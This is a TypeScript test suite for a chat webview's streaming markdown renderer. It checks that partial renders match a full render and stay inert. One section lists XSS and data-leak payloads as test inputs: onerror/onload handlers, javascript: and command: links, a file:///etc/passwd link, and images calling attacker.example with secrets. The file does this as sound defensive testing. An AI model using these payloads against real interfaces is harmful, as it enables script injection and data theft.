// The chat's incremental markdown renderer: equal to a full render, and inert at every intermediate render.
/// <reference lib="dom" />
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { IncrementalRenderer, renderFull } from '../../../../src/webview/chat/incrementalRenderer';
import { chunk, createDom, rng } from './renderHarness';

const SAMPLE = `# Streaming test 流式测试

Here is a paragraph with **bold**, _emphasis_, \`inline code\` and a link to https://example.com/docs.
中文段落：模型的回答会被分成很多小块。Emoji 👨‍👩‍👧‍👦 and 🎉 survive.

1. first item
2. second item with \`code\`
   - nested bullet
   - another

> A quote
> spanning lines

\`\`\`typescript
function greet(name: string): string {
  return \`Hello, \${name}!\`;
}
\`\`\`

| Column A | Column B |
|---------:|:---------|
| 1        | 二        |

Setext heading
--------------

    indented code block

~~~python
def f(x):
    return x * 2
~~~

Final paragraph [with a link](https://example.org "title") and a trailing line.
`;

function blocksHtml(container: HTMLElement): string {
  return Array.from(container.children)
    .map((c) => c.innerHTML)
    .join('');
}

function fullHtml(doc: Document, kit: ReturnType<typeof createDom>['kit'], text: string): string {
  const div = doc.createElement('div');
  div.appendChild(renderFull(kit, text));
  return div.innerHTML;
}

function fullText(doc: Document, kit: ReturnType<typeof createDom>['kit'], text: string): string {
  const div = doc.createElement('div');
  div.appendChild(renderFull(kit, text));
  return div.textContent ?? '';
}

test('incremental rendering ends equal to a full render, for many chunkings', () => {
  const { document, kit } = createDom();
  for (const seed of [1, 42]) {
    const r = rng(seed);
    for (const maxChunk of [1, 4, 17, 80]) {
      const container = document.createElement('div');
      const renderer = new IncrementalRenderer(container, kit);
      for (const c of chunk(SAMPLE, () => 1 + Math.floor(r() * maxChunk))) {
        renderer.append(c);
        renderer.render();
      }
      renderer.finish();
      assert.equal(blocksHtml(container), fullHtml(document, kit, SAMPLE), `seed ${seed}, chunks ≤ ${maxChunk}`);
    }
  }
});

test('every intermediate render shows the same text as a full render of the same prefix', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  const r = rng(7);
  let prefix = '';
  for (const c of chunk(SAMPLE, () => 1 + Math.floor(r() * 9))) {
    prefix += c;
    renderer.append(c);
    renderer.render();
    assert.equal(container.textContent, fullText(document, kit, prefix), `after ${JSON.stringify(prefix.slice(-30))}`);
  }
});

test('finished blocks are never touched again, and code is highlighted once its fence closes', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  renderer.append('First paragraph.\n\n```js\nconst a = 1;\n');
  renderer.render();
  const first = container.querySelector('.md-block');
  assert.ok(first, 'the first paragraph is a finished block');
  assert.equal(container.querySelector('.md-open .hljs-keyword'), null, 'an open fence is not highlighted');
  renderer.append('```\n');
  renderer.render();
  const blocks = container.querySelectorAll('.md-block');
  assert.equal(blocks.length, 2, 'the closed fence became a finished block');
  assert.ok(blocks[1]!.querySelector('.hljs-keyword'), 'the closed fence is highlighted');
  renderer.append('More text after the code.');
  renderer.render();
  assert.equal(container.querySelector('.md-block'), first, 'the first block is the same node');
  assert.equal(container.querySelectorAll('.md-block')[1], blocks[1], 'the code block is the same node');
});

test('a half-written line does not end a block too early', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  // "#" alone is an empty heading that would end the paragraph; "#abc" is not a heading.
  for (const c of ['para\n', '#', 'abc continues\n\n', 'next\n']) {
    renderer.append(c);
    renderer.render();
  }
  renderer.finish();
  assert.equal(blocksHtml(container), fullHtml(document, kit, 'para\n#abc continues\n\nnext\n'));
});

test('plain words appended to an open paragraph render exactly like a full redraw', () => {
  const { document, kit } = createDom();
  const cases = [
    ['foo', ' ', 'bar', '  ', 'baz 中文', '，好', ' 🎉'],
    ['foo\n', '    bar', ' baz'],
    ['see example', '.', 'com', ' now'],
    ['a _b', '_c', ' d'],
    ['x &amp', ';', ' y'],
    ['*foo*', 'bar', ' baz'],
    ['line one\nline', ' two', ' three'],
  ];
  for (const parts of cases) {
    const container = document.createElement('div');
    const renderer = new IncrementalRenderer(container, kit);
    let sent = '';
    for (const part of parts) {
      sent += part;
      renderer.append(part);
      renderer.render();
      assert.equal(
        container.innerHTML.replace(/<\/?div[^>]*>/g, ''),
        fullHtml(document, kit, sent).replace(/<\/?div[^>]*>/g, ''),
        JSON.stringify(sent),
      );
    }
  }
});

test('CRLF split across deltas renders as one line break', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  for (const c of ['a\r', '\nb\r', '\r\nc']) {
    renderer.append(c);
    renderer.render();
  }
  renderer.finish();
  assert.equal(blocksHtml(container), fullHtml(document, kit, 'a\nb\n\nc'));
});

test('a reference definition after its use resolves in the final render', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  const text = 'See [the docs][d].\n\nMore.\n\n[d]: https://example.com/d\n';
  for (const c of chunk(text, () => 3)) {
    renderer.append(c);
    renderer.render();
  }
  renderer.finish();
  assert.equal(blocksHtml(container), fullHtml(document, kit, text));
  assert.equal(container.querySelector('a')?.getAttribute('data-href'), 'https://example.com/d');
});

// ---- hostile output ----

const ALLOWED = new Set([
  'P',
  'BR',
  'HR',
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'STRONG',
  'EM',
  'S',
  'DEL',
  'CODE',
  'PRE',
  'BLOCKQUOTE',
  'UL',
  'OL',
  'LI',
  'A',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
  'SPAN',
  'DIV',
  'BUTTON',
  'IMG',
  'SUP',
  'SUB',
]);

/** Nothing in the rendered DOM can run code, navigate, or fetch anything. */
function assertInert(container: HTMLElement, where: string): void {
  for (const el of Array.from(container.querySelectorAll('*'))) {
    assert.ok(ALLOWED.has(el.tagName), `${where}: element <${el.tagName}>`);
    for (const attr of Array.from(el.attributes)) {
      const n = attr.name.toLowerCase();
      assert.ok(!n.startsWith('on'), `${where}: event handler ${n}`);
      assert.ok(
        !['href', 'srcset', 'style', 'xlink:href', 'action', 'formaction', 'poster', 'background'].includes(n),
        `${where}: attribute ${n}`,
      );
      if (n === 'src')
        assert.match(attr.value, /^data:image\/(png|jpeg|gif|webp);base64,/i, `${where}: img src ${attr.value}`);
    }
  }
}

const HOSTILE: { name: string; text: string; splits?: string[] }[] = [
  {
    name: 'img onerror split as <im + g',
    text: 'Look: <img src=x onerror=alert(1)> done',
    splits: ['Look: <im', 'g src=x onerror=alert(1)> done'],
  },
  {
    name: 'javascript: link split',
    text: 'Click [a](javascript:alert(document.cookie)) now',
    splits: ['Click [a](javas', 'cript:alert(document.cookie)) now'],
  },
  { name: 'command: link', text: '[Open terminal](command:workbench.action.terminal.new?%5B%22rm%22%5D)' },
  {
    name: 'vscode: and file: links',
    text: '[x](vscode://ms-vscode.foo/bar) and [y](file:///etc/passwd) and <javascript:alert(1)>',
  },
  { name: 'remote inline image', text: '![leak](https://attacker.example/leak?q=SECRET)' },
  { name: 'reference-style image', text: '![leak][r]\n\ntext\n\n[r]: https://attacker.example/ref.png?q=SECRET\n' },
  {
    name: 'script and style tags',
    text: '<script>alert(1)</script>\n\n<style>body{background:url(https://attacker.example/css)}</style>',
  },
  { name: 'svg onload and iframe', text: '<svg onload=alert(1)><iframe src="https://attacker.example/"></iframe>' },
  {
    name: 'html link with handler',
    text: '<a href="https://x" onclick="alert(1)">x</a> <video poster="https://attacker.example/p.png">',
  },
  { name: 'srcset image', text: '<img srcset="https://attacker.example/a.png 1x">' },
  { name: 'svg data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'fence info injection', text: '```js" onmouseover="alert(1)\ncode\n```\n' },
  { name: 'link title injection', text: '[a](https://ok.example "x\\" onclick=\\"alert(1)")' },
];

for (const h of HOSTILE) {
  test(`hostile output stays inert at every intermediate render: ${h.name}`, () => {
    const { document, kit } = createDom();
    const plans: string[][] = [Array.from(h.text)];
    if (h.splits) plans.push(h.splits);
    // Every two-way split point as well.
    for (let i = 1; i < h.text.length; i++) plans.push([h.text.slice(0, i), h.text.slice(i)]);
    for (const plan of plans) {
      const container = document.createElement('div');
      const renderer = new IncrementalRenderer(container, kit);
      let sent = '';
      for (const part of plan) {
        sent += part;
        renderer.append(part);
        renderer.render();
        assertInert(container, `${h.name} after ${JSON.stringify(sent)}`);
      }
      renderer.finish();
      assertInert(container, `${h.name} finished`);
    }
  });
}

test('remote images become a placeholder that shows the URL', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const renderer = new IncrementalRenderer(container, kit);
  renderer.append('![chart](https://attacker.example/leak?q=1)\n');
  renderer.finish();
  const ph = container.querySelector('.remote-image');
  assert.ok(ph, 'placeholder present');
  assert.equal(container.querySelector('img'), null, 'no img element');
  assert.match(ph.textContent ?? '', /https:\/\/attacker\.example\/leak\?q=1/);
  assert.equal(ph.querySelector('a')?.getAttribute('data-href'), 'https://attacker.example/leak?q=1');
});

test('links carry their target only as data for the host; javascript: is not a link at all', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  container.appendChild(renderFull(kit, '[ok](https://example.com) [cmd](command:foo) [bad](javascript:alert(1))'));
  const links = Array.from(container.querySelectorAll('a'));
  assert.deepEqual(
    links.map((a) => a.getAttribute('data-href')),
    ['https://example.com', 'command:foo'],
  );
  assert.ok(links.every((a) => !a.hasAttribute('href')));
  assert.match(container.textContent ?? '', /\[bad\]\(javascript:alert\(1\)\)/);
});

test('an inline data: PNG renders as an image; nothing else does', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  container.appendChild(renderFull(kit, '![dot](data:image/png;base64,iVBORw0KGgo=)'));
  const img = container.querySelector('img');
  assert.ok(img);
  assert.equal(img.getAttribute('src'), 'data:image/png;base64,iVBORw0KGgo=');
});

test('an open code block costs only its new text: new text nodes after the old ones, equal to a full redraw', () => {
  const { document, kit } = createDom();
  const container = document.createElement('div');
  const r = new IncrementalRenderer(container, kit);
  let text = 'Intro paragraph.\n\n```ts\n';
  r.append(text);
  r.render();
  let node: Node | null | undefined;
  const lines = Array.from({ length: 300 }, (_, i) => `const v${i} = ${i} * 2; // <b>not html</b> & \`tick\`\n`);
  for (const [i, line] of lines.entries()) {
    // Each line arrives in two pieces, as deltas do.
    for (const piece of [line.slice(0, 7), line.slice(7)]) {
      r.append(piece);
      text += piece;
      r.render();
    }
    const code = container.querySelector('.md-open pre > code');
    assert.ok(code, `line ${i}: the open block is a code block`);
    if (i === 1) node = code.firstChild;
    if (i > 1) assert.equal(code.firstChild, node, `line ${i}: the earlier text is untouched (no redraw)`);
    if (i % 50 === 0 || i === lines.length - 1) {
      // What a full redraw of the open block would draw (the plain, not yet highlighted code).
      const ref = document.createElement('div');
      ref.appendChild(kit.sanitize(kit.open.render(text.slice(text.indexOf('```')), {})));
      assert.equal(container.querySelector('.md-open')!.innerHTML, ref.innerHTML, `line ${i}`);
    }
  }
  assert.equal(container.querySelector('.md-open pre > code')!.textContent, lines.join(''));
  // The closing fence ends the fast path: the block is committed and highlighted like any other.
  r.append('```\nAfter.\n');
  text += '```\nAfter.\n';
  r.render();
  r.finish();
  assert.equal(blocksHtml(container), fullHtml(document, kit, text));
});
